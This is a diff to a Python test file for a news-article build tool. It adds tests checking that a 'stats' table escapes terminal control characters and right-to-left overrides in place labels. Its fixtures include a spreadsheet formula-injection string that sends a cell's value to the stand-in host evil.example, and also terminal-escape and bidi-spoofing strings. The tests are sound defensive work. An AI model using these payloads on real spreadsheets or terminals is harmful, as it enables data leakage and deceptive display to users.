@@ -85,6 +85,7 @@ def test_serve_durations_are_at_most_a_year_as_every_other_duration(seed_build, 
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"click")'
 TERMINAL = "Итоги \x9b2J\x1b]0;pwned\x07 года \u202eexe.txt"  # CSI (U+009B), an OSC title, an RTL override
+DRIVING_PLACE = "Место \x9b2J \u202eecalp"  # a place node's label: a CSI and an RTL override
 CONTENT = {"title": TERMINAL.replace("\x1b", "").replace("\x07", ""), "place": FORMULA}  # C0 is refused in metadata
 
 
@@ -96,9 +97,11 @@ def content_build(tmp_path_factory) -> Path:
     articles, curation = folder / "articles", folder / "curation"
     articles.mkdir()
     curation.mkdir()
-    (articles / "h1.txt").write_text((ARTICLES / f"{SEED_ID}.txt").read_text(encoding="utf-8"), encoding="utf-8")
-    meta = {"date": "2024-03-12", "url": "https://example.org/news/1", **CONTENT}
-    (articles / "h1.json").write_text(json.dumps(meta, ensure_ascii=False), encoding="utf-8")
+    text = (ARTICLES / f"{SEED_ID}.txt").read_text(encoding="utf-8")
+    for name, meta in (("h1", CONTENT), ("h2", {"title": "Вторая", "place": DRIVING_PLACE})):
+        (articles / f"{name}.txt").write_text(text, encoding="utf-8")
+        meta = {"date": "2024-03-12", "url": f"https://example.org/news/{name}", **meta}
+        (articles / f"{name}.json").write_text(json.dumps(meta, ensure_ascii=False), encoding="utf-8")
     out = folder / "build"
     assert main(["build", "--quiet", "--jobs", "1", "--articles", str(articles), "--curation", str(curation),
                  "--out", str(out)]) == 0
@@ -120,6 +123,15 @@ def test_the_table_shows_terminal_controls_and_bidi_overrides_as_escapes(content
     out = capsys.readouterr().out
     assert "a\\x1b]0;pwned\\x07b c\\u2066" in out, out  # U+0085 is a line break: one space, as \n is
     assert not UNSEEN.search(out.replace("\n", "")), out
+
+
+def test_stats_table_shows_a_labels_terminal_controls_as_escapes(content_build, capsys):
+    """Before: `stats` printed the place's label as it is (U+009B, U+202E); csv and json keep it exact."""
+    assert main(["stats", "--build", str(content_build), "--top", "1000"]) == 0
+    out = capsys.readouterr().out
+    assert "Место \\x9b2J \\u202eecalp" in out and not UNSEEN.search(out.replace("\n", "")), out
+    assert main(["stats", "--build", str(content_build), "--top", "1000", "--format", "json"]) == 0
+    assert DRIVING_PLACE in json.dumps(json.loads(capsys.readouterr().out), ensure_ascii=False)
 
 
 def test_csv_keeps_a_value_that_looks_like_a_formula_as_it_is(content_build, capsys):
